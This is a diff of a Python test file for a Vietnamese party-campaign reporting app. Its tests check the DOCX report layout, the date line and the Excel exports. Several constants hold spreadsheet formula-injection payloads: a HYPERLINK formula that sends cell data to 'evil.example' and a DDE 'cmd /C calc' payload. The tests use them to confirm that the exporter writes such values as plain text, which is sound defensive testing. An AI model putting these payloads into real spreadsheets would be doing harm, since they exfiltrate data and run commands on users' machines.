@@ -16,8 +16,9 @@ from docx.shared import Mm
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from quantriet.campaigns import exports, services
-from quantriet.campaigns.models import BridgePoint, Campaign, ImplementationPlan
+from quantriet.campaigns import services
+from quantriet.campaigns.models import BridgePoint, Campaign, ImplementationPlan, PlanObligation
+from quantriet.core.papers import vietnamese_date
 from quantriet.orgs.models import Unit
 from tests.campaigns.conftest import Setup, local
 
@@ -66,8 +67,8 @@ def test_the_workbook_counts_attendance_by_point_and_unit_and_plans_by_unit(setu
         "Đảng bộ xã An Hòa",
         "Đảng bộ xã Bình Minh",
     }
-    assert plans["Chi bộ thôn 1"][1:3] == ("Nộp muộn", "03-KH/CB")
-    assert plans["Chi bộ thôn 2"][1] == "Chưa nộp"
+    assert plans["Đảng bộ xã An Hòa › Chi bộ thôn 1"][1:3] == ("Nộp muộn", "03-KH/CB")
+    assert plans["Đảng bộ xã An Hòa › Chi bộ thôn 2"][1] == "Chưa nộp"
 
 
 def test_the_docx_report_is_laid_out_as_a_party_document(setup: Setup) -> None:
@@ -77,19 +78,46 @@ def test_the_docx_report_is_laid_out_as_a_party_document(setup: Setup) -> None:
     assert response.status_code == 200 and "wordprocessingml" in response["Content-Type"]
     document = docx.Document(io.BytesIO(response.content))
     heading = document.tables[0].rows[0].cells
-    assert heading[0].text.splitlines() == ["TỈNH ỦY MẪU", "*", "Số 12-BC/TU"]
+    assert heading[0].text.splitlines() == ["ĐẢNG BỘ TỈNH MẪU", "TỈNH ỦY", "*", "Số 12-BC/TU"]
     right = heading[1].text.splitlines()
     assert right[0] == "ĐẢNG CỘNG SẢN VIỆT NAM"
-    assert re.fullmatch(r"Thành phố Mẫu, ngày \d\d tháng \d\d năm \d{4}", right[-1])
+    assert re.fullmatch(r"Thành phố Mẫu, ngày \d\d tháng (0[12]|[3-9]|1[012]) năm \d{4}", right[-1])
     body = "\n".join(p.text for p in document.paragraphs)
-    assert "BÁO CÁO" in body and "35-NQ/TW" in body
+    assert "BÁO CÁO" in body
+    assert (
+        "Thực hiện Nghị quyết số 35-NQ/TW, ngày 20/10/2018 của Trung ương về tăng cường bảo vệ nền tảng tư "
+        "tưởng của Đảng, Tỉnh ủy Mẫu đã tổ chức học tập, quán triệt cho toàn thể cán bộ, đảng viên" in body
+    )
+    for part in ("I. KẾT QUẢ", "II. XÂY DỰNG KẾ HOẠCH", "III. ĐÁNH GIÁ CHUNG", "1. Ưu điểm", "2. Hạn chế"):
+        assert part in body
+    assert "IV. NHIỆM VỤ THỜI GIAN TỚI VÀ KIẾN NGHỊ" in body and "Tổ chức học bù cho 2 đồng chí" in body
     assert "Tổng số đại biểu được mời: 4; có mặt tại hội nghị: 1; học bù: 1; vắng có lý do: 1" in body
     assert "Tỷ lệ tham dự (kể cả học bù): 50%." in body
     assert "Đã nộp 1/5 đơn vị" in body and "chưa nộp: 4" in body
     points = [[c.text for c in row.cells] for row in document.tables[1].rows]
     assert points[1] == ["Điểm cầu xã An Hòa", "3", "1", "1", "1", "0", "67"]
-    signature = document.tables[-1].rows[0].cells[1].text.splitlines()
+    recipients, signature = (c.text.splitlines() for c in document.tables[-1].rows[0].cells)
     assert signature[:2] == ["T/M BAN THƯỜNG VỤ", "BÍ THƯ"]
+    assert recipients == [
+        "Nơi nhận:",
+        "- Ban Tuyên giáo và Dân vận Trung ương (để báo cáo),",
+        "- Các đảng ủy trực thuộc,",
+        "- Lưu Văn phòng Tỉnh ủy.",
+    ]
+
+
+def test_the_docx_report_is_vietnamese_and_dated_at_the_units_locality_whatever_the_interface(
+    setup: Setup,
+) -> None:
+    attended(setup)
+    Unit.objects.filter(pk=setup.world.province.pk).update(locality="Mẫu Sơn")
+    client = setup.world.client_for(setup.world.alice)
+    response = client.get(f"/campaigns/{setup.campaign.pk}/report.docx", HTTP_ACCEPT_LANGUAGE="en")
+    document = docx.Document(io.BytesIO(response.content))
+    assert document.tables[0].rows[0].cells[1].text.splitlines()[-1].startswith("Mẫu Sơn, ngày ")
+    body = "\n".join(p.text for p in document.paragraphs)
+    assert "cho toàn thể cán bộ, đảng viên trong Tỉnh ủy Mẫu" in body
+    assert " all " not in body and "Như trên" not in body
 
 
 def test_the_docx_report_is_on_a4_with_the_guides_margins_and_its_tables_fit_the_text(setup: Setup) -> None:
@@ -111,8 +139,10 @@ def test_the_docx_report_is_on_a4_with_the_guides_margins_and_its_tables_fit_the
     assert all(names > 2 * figure for figure in figures)
 
 
-def test_the_vietnamese_date_line_and_a_blank_number() -> None:
-    assert exports.vietnamese_date("Hà Nội", dt.date(2025, 3, 5)) == "Hà Nội, ngày 05 tháng 03 năm 2025"
+def test_the_date_line_writes_a_zero_before_days_below_10_and_the_months_1_and_2_only() -> None:
+    assert vietnamese_date("Hà Nội", dt.date(2025, 3, 5)) == "Hà Nội, ngày 05 tháng 3 năm 2025"
+    assert vietnamese_date("Hà Nội", dt.date(2025, 2, 15)) == "Hà Nội, ngày 15 tháng 02 năm 2025"
+    assert vietnamese_date("Hà Nội", dt.date(2025, 12, 1)) == "Hà Nội, ngày 01 tháng 12 năm 2025"
 
 
 def test_the_campaign_page_draws_attendance_and_plan_charts(setup: Setup) -> None:
@@ -139,7 +169,15 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
 CALC = "=cmd|' /C calc'!A0"
 
 
+def owe_plans_everywhere(setup: Setup) -> None:
+    """Every unit of the province's scope owes a plan (the organisers' chosen list): five units."""
+    world = setup.world
+    Campaign.objects.filter(pk=setup.campaign.pk).update(plans_owed_by=PlanObligation.CHOSEN)
+    setup.campaign.chosen_plan_units.set([world.xa, world.xa1, world.xa2, world.xb, world.xb1])
+
+
 def submit_xa1_plan(setup: Setup) -> None:
+    owe_plans_everywhere(setup)
     services.submit_plan(
         None,
         setup.campaign,
@@ -172,9 +210,10 @@ def test_point_unit_and_plan_text_that_looks_like_a_formula_is_written_as_text(s
     assert (point.value, point.data_type) == (HYPERLINK, "s")
     unit = next(row for row in book["Theo đơn vị"].iter_rows() if row[0].value == CALC)
     assert unit[0].data_type == "s"
-    plan = next(row for row in book["Kế hoạch thực hiện"].iter_rows() if row[0].value == CALC)
+    in_path = f"Đảng bộ xã An Hòa › {CALC}"
+    plan = next(row for row in book["Kế hoạch thực hiện"].iter_rows() if row[0].value == in_path)
     assert [(c.value, c.data_type) for c in (plan[0], plan[2], plan[6])] == [
-        (CALC, "s"),
+        (in_path, "s"),
         ("+1+cmd|' /C calc'!A0", "s"),
         ("@A1", "s"),
     ]
@@ -200,10 +239,10 @@ def test_control_characters_already_stored_or_asked_for_do_not_break_the_reports
     assert report.status_code == 200
     document = docx.Document(io.BytesIO(report.content))
     heading = document.tables[0].rows[0].cells
-    assert heading[0].text.splitlines() == ["TỈNH ỦY MẪU", "*", "Số    -BC/TU"]
-    assert heading[1].text.splitlines()[-1].startswith("…, ngày ")
+    assert heading[0].text.splitlines() == ["ĐẢNG BỘ TỈNH MẪU", "TỈNH ỦY", "*", "Số    -BC/TU"]
+    assert heading[1].text.splitlines()[-1].startswith("Mẫu, ngày ")  # the place in the unit's name
     body = "\n".join(p.text for p in document.paragraphs)
-    assert "thực hiện: Học tập Nghị quyết 35" in body
+    assert "Nghị quyết 35-NQ/TW" in body
     assert client.get(f"/campaigns/{setup.campaign.pk}/report.docx?number=%00%01").status_code == 200
 
 
